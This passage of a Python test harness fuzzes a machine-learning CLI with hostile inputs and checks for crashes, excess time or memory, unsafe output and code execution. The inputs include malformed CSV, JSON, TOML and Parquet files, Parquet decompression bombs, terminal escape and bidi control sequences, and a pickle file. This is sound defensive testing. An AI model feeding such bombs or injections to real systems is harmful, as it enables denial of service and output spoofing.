    "mark.csv": "\ufeff", "mark.json": "\ufeff", "header.csv": "text,label\n",
    "nul.csv": ROWS + "a\0b,good\n", "bytes.csv": bytes(range(256)), "bytes.json": bytes(range(256)),
    "bytes.parquet": bytes(range(256)), "utf16.csv": ROWS.encode("utf-16"),
    "latin.csv": ROWS.encode() + b"caf\xe9,good\n", "quotes.csv": ROWS + '"never closed,good\n',
    "fields.csv": ROWS + "a,b,c,d\n", "columns.csv": ",".join(f"c{i}" for i in range(100_000)) + "\n",
    "same.csv": "text,text,label\na,b,good\n", "blank.csv": "\n" * 10**6,
    "commas.csv": "," * 10**6 + "\n", "labels.csv": "text,label\n" + "".join(
        f"film {i},l{i}\n" for i in range(50_000)), "nan.csv": "text,label\nx,nan\ny,inf\n",
    "numbers.csv": "text,label\nx,1e999\ny," + "9" * 5000 + "\n",
    "negative.csv": "text,label\nx,-1\ny,-99\n", "controls.csv": "text,label\nx,\x1b[2J\ny,\u202egood\n",
    "markup.csv": "text,label\nx,[red]\ny,<b>\n", "long.csv": f"text,label\n{'a ' * 10**6},good\n",
    "longlabel.csv": f"text,label\nx,{'y' * 10**6}\n", "names.csv": "\x1b[31mtext,\u202elabel\na,b\n",
    "names2.csv": "tex\nt,label\n", "oneline.csv": "x" * 10**6, "tabs.csv": "text\tlabel\na\tgood\n",
    "empty2.csv": "text,label\n,good\n ,bad\n", "spaces.tsv": "text \t label\n" + " \t " * 9999,
    "quotes.tsv": 'text\tlabel\n"a""b\tgood\n', "rows.tsv": "text\tlabel\na\n",
    "deep.json": "[" * 100_000 + "]" * 100_000, "deep.jsonl": '{"text":' * 50_000 + "1" + "}" * 50_000,
    "deep900.json": "[" * 900 + "]" * 900, "null.json": "null", "number.json": "7", "list.json": "[7]",
    "mixed.jsonl": LINES + "[1]\n", "keys.jsonl": LINES + '{"a": 1}\n',
    "surrogate.jsonl": LINES + '{"text": "\\ud800", "label": "good"}\n',
    "surrogate2.jsonl": LINES + '{"text": "x", "label": "\\udfff"}\n',
    "surrogate3.jsonl": '{"te\\ud800xt": "x", "label": "good"}\n',
    "table.jsonl": LINES + '{"text": {"a": 1}, "label": [1]}\n', "nan.jsonl": LINES.replace('"good"', "NaN"),
    "digits.jsonl": '{"text": "a", "label": ' + "9" * 9999 + "}\n",
    "controls.jsonl": LINES.replace('"bad"', '"\\u001b[2J\\u202e"'), "cut.json": "[" + LINES[:30],
    "columns.json": '{"text": ["a"], "label": ["good"]}', "bool.jsonl": LINES.replace('"good"', "true"),
    "weights.bin": "x", "noending": ROWS, "many.jsonl": LINES * 1 + "\n" * 10**6,
    "magic.parquet": b"PAR1" + b"\xff" * 999 + b"PAR1", "cut.parquet": b"PAR1\x15\x04\x15",
}  # fmt: skip
ON_DATA = ("evaluate", "{base}", "--data", "{data}", "--device", "cpu", "-q")


def datum(name: str, content: str | bytes) -> Callable[[Place], None]:
    def make(place: Place) -> None:
        raw = content if isinstance(content, bytes) else content.encode("utf-8", "surrogatepass")
        (place.data.parent / name).write_bytes(raw)

    return make


for name, content in FILES.items():
    case("data", name, datum(name, content),
         command=tuple(w.replace("{data}", "{beside}/" + name) for w in ON_DATA))  # fmt: skip
for told, how in KINDS.items():
    if told not in ("link out", "nothing"):
        case("data", f"is {told}", lambda p, h=how: [p.data.unlink(), h(p.data, p)],
             command=ON_DATA, **REFUSED)  # fmt: skip


def pickled_data(place: Place) -> None:
    place.data.write_bytes(place.pickle)


def bomb(place: Place) -> None:
    """A Parquet file of a few kilobytes whose cells are gigabytes."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    column = pa.DictionaryArray.from_arrays(pa.array([0] * 20_000, pa.int32()), ["x" * 10**6])
    labels = pa.array(["good"] * 20_000)
    pq.write_table(pa.table({"text": column, "label": labels}), place.data.parent / "bomb.parquet")


def many(place: Place) -> None:
    """A Parquet file of a kilobyte with one list of a hundred million nulls, in a column unasked."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    count = pa.nulls(10**8, pa.int8())
    nulls = pa.ListArray.from_arrays(pa.array([0, 10**8], pa.int32()), count)
    table = pa.table({"text": ["a good film"], "label": ["good"], "x": nulls})
    pq.write_table(table, place.data.parent / "bomb.parquet")


case("data", "a bomb of a list in Parquet", many, **REFUSED,
     command=tuple(w.replace("{data}", "{beside}/bomb.parquet") for w in ON_DATA))  # fmt: skip
case("data", "a pickle", pickled_data, command=ON_DATA, **REFUSED)
case("data", "a bomb of Parquet", bomb, **REFUSED,
     command=tuple(w.replace("{data}", "{beside}/bomb.parquet") for w in ON_DATA))  # fmt: skip
TOML: dict[str, str | bytes] = {
    "deep": "x = " + "[" * 5000 + "]" * 5000, "tables": "[" + ".".join("a" * 3000) + "]\nx = 1\n",
    "bytes": bytes(range(256)), "empty": "", "digits": "x = " + "9" * 9999, "nul": "x = 1\0",
    "controls": '"\\u001b[2J\\u202e" = 1\n', "types": 'strategy = 7\nseed = "x"\n',
    "dates": "seed = 0001-01-01T00:00:00Z\n", "deep keys": "a.b = 1\n" * 2,
}  # fmt: skip
for option in ("--recipe", "--adapter", "--mask"):
    for told, text in TOML.items():
        case("data", f"{option} {told}", datum("given.toml", text),
             command=(*PURIFY[:-6], option, "{beside}/given.toml"))  # fmt: skip

# -- running them ----------------------------------------------------------------------------------------


@dataclass
class Outcome:
    """What a case came to."""

    name: str
    kind: str
    command: str
    code: int
    seconds: float
    mib: float
    wrong: list[str] = field(default_factory=list)
    said: str = ""

    @property
    def row(self) -> str:
        """One line of the table."""
        told = "; ".join(self.wrong) or "as it must"
        cells = (self.name, self.kind, self.command, str(self.code), f"{self.seconds:.2f}",
                 f"{self.mib:.0f}", told, self.said)  # fmt: skip
        return "\t".join(ascii(cell)[1:-1] for cell in cells)


TITLES = "name\tkind\tcommand\texit code\tseconds\tpeak MiB\tfound\tfirst line"


def bases(home: Path) -> None:
    """Write the honest folders that the hostile ones are made from, and clean texts."""
    sys.path.insert(0, str(Path(__file__).parent))
    from conftest import sentences, tiny_model, tiny_tokenizer

    for family in ("bert", "gpt2", "llama", "roberta", "distilbert"):
        folder = home / family
        tiny_model(family).save_pretrained(folder)
        tiny_tokenizer().save_pretrained(folder)
    rows = sentences(60, seed=5)
    told = (f"{t},{'good' if y else 'bad'}\n" for t, y in zip(rows.texts, rows.labels, strict=True))
    (home / "clean.csv").write_text("text,label\n" + "".join(told))


def forked(work: Callable[[], None]) -> None:
    """Do work in a child, so that this process stays without threads of its own."""
    child = os.fork()
    if not child:
        work()
        os._exit(0)
    assert os.waitpid(child, 0)[1] == 0


def ran(name: str, home: Path) -> Outcome:
    """Make a case in a place of its own, run its command, and say what happened."""
    one = CASES[name]
    with tempfile.TemporaryDirectory(prefix="hostile-", dir=home) as temporary:
        work = Path(temporary)
        (work / "in").mkdir()
        place = Place(work / "in" / one.folder, work / "canary", work / "data.csv", home / "bert")
        shutil.copytree(home / one.family, place.folder)
        shutil.copy(home / "clean.csv", place.data)
        one.make(place)
        for scratch in ("tmp", "home"):
            (work / scratch).mkdir()
        there = {"{folder}": str(place.folder), "{data}": str(place.data), "{out}": str(work / "out"),
                 "{base}": str(place.base), "{beside}": str(work)}  # fmt: skip
        words = [filled(word, there) for word in one.command]
        before = listed(work)
        code, seconds, mib, text = run_in_child(words, work)
        found = Outcome(name, one.kind, one.command[0], code, seconds, mib)
        found.said = next(iter(text.splitlines()), "")[:160]
        judge(found, one, text, work, before)
    return found


def filled(word: str, there: dict[str, str]) -> str:
    for mark, path in there.items():
        word = word.replace(mark, path)
    return word


def listed(work: Path) -> set[tuple[str, int, int]]:
    """Return every file with its size and time, but what a run may write."""
    found = set()
    for path in work.rglob("*"):
        if path.relative_to(work).parts[0] not in ("out", "said", "home"):
            state = path.lstat()
            when = 0 if path.is_dir() else state.st_mtime_ns
            found.add((str(path.relative_to(work)), 0 if path.is_dir() else state.st_size, when))
    return found


def run_in_child(words: list[str], work: Path) -> tuple[int, float, float, str]:
    """Run the command line in a fork; return its exit code, seconds, peak memory and output."""
    begun = time.monotonic()
    child = os.fork()
    if not child:
        be(words, work)
    code: int | None = None
    while code is None and time.monotonic() - begun < 6 * MOST_SECONDS:
        done, state, usage = os.wait4(child, os.WNOHANG)
        if done:
            code = os.waitstatus_to_exitcode(state)
        else:
            time.sleep(0.01)
    if code is None:
        os.kill(child, signal.SIGKILL)
        _, _, usage = os.wait4(child, 0)
        code = -9
    text = (work / "said").read_text("utf-8", "surrogateescape")
    took = usage.ru_utime + usage.ru_stime  # of the processor: the machine may be busy
    return code, took if code != -9 else time.monotonic() - begun, usage.ru_maxrss / 1024, text


def be(words: list[str], work: Path) -> None:
    """Be the command: never returns."""
    code = 70
    try:
        os.setsid()
        said = os.open(work / "said", os.O_WRONLY | os.O_CREAT)
        answers, asked = os.pipe()
        os.write(asked, b"y\n" * 99)
        os.close(asked)
        os.dup2(answers, 0)
        os.dup2(said, 1)
        os.dup2(said, 2)
        sys.stdin = os.fdopen(0, "r")
        sys.stdout = os.fdopen(1, "w", encoding="utf-8")
        sys.stderr = os.fdopen(2, "w", encoding="utf-8")
        os.environ |= {"TMPDIR": str(work / "tmp"), "HOME": str(work / "home"),
                       "XDG_CACHE_HOME": str(work / "home"), "COLUMNS": "200"}  # fmt: skip
        tempfile.tempdir = None
        os.chdir(work / "in")
        from headsweep.cli import main
        from headsweep.cli.options import out_console

        out_console.file = sys.stdout
        main(words)
    except SystemExit as stop:
        code = stop.code if isinstance(stop.code, int) else 71
    finally:
        with suppress(OSError, ValueError):
            sys.stdout.flush()
            sys.stderr.flush()
        os._exit(code)


def judge(found: Outcome, one: Case, text: str, work: Path, before: set[Any]) -> None:
    """Note what should not be."""
    checks = {
        f"exit code {found.code}": found.code in one.codes,
        "a traceback": "Traceback" not in text and "unforeseen" not in text,
        "its code ran": not (work / "canary").exists(),
        "it took too long": found.seconds < MOST_SECONDS,
        "too much memory": found.mib < MOST_MIB,
        "a control sequence in the output": not UNSAFE & set(text),
        "text that cannot be encoded": not any("\ud800" <= c <= "\udfff" for c in text),
        "a question": "[y/N]" not in text,
    }
    if one.says:
        checks[f"does not say {one.says}"] = one.says in text
    more = listed(work) ^ before
    if more:
        checks[f"written outside --out: {sorted(name for name, *_ in more)[:3]}"] = False
    found.wrong = [what for what, fine in checks.items() if not fine]


def prepared(home: Path) -> None:
    """Import all that commands need, once, and write the honest folders."""
    os.environ |= {"HF_HUB_OFFLINE": "1", "OMP_NUM_THREADS": "1", "TOKENIZERS_PARALLELISM": "false"}
    import torch

    torch.set_num_threads(1)
    from headsweep.cli import evaluate, look, purify  # noqa: F401
    from headsweep.export import verify
    from headsweep.judge import evaluate as judging
    from headsweep.purification import pipeline

    del verify, judging, pipeline
    forked(lambda: bases(home))


def sample(count: int = 40, seed: int = 0) -> list[str]:
    """Return some of every kind, always the same."""
    draw = random.Random(seed)
    kinds = sorted({one.kind for one in CASES.values()})
    each_ = max(1, count // len(kinds))
    names = {kind: [n for n, one in CASES.items() if one.kind == kind] for kind in kinds}
    return [
        name for kind in kinds for name in draw.sample(names[kind], min(each_, len(names[kind])))
    ]


def main(out: Path, part: str = "") -> int:
    """Run the cases; write the table; return how many were not as they must."""
    names = sample() if part == "SAMPLE" else [name for name in CASES if part in name]
    wrong = 0
    with tempfile.TemporaryDirectory(prefix="hostile-") as temporary, out.open("w") as table:
        home = Path(temporary)
        prepared(home)
        print(TITLES, file=table)
        for name in names:
            found = ran(name, home)
            wrong += bool(found.wrong)
            print(found.row, file=table, flush=True)
            if found.wrong:
                print(found.row)
    print(f"{len(names)} cases, {wrong} not as they must")
    return wrong


if __name__ == "__main__":
    sys.exit(bool(main(Path(sys.argv[1]), *sys.argv[2:3])))
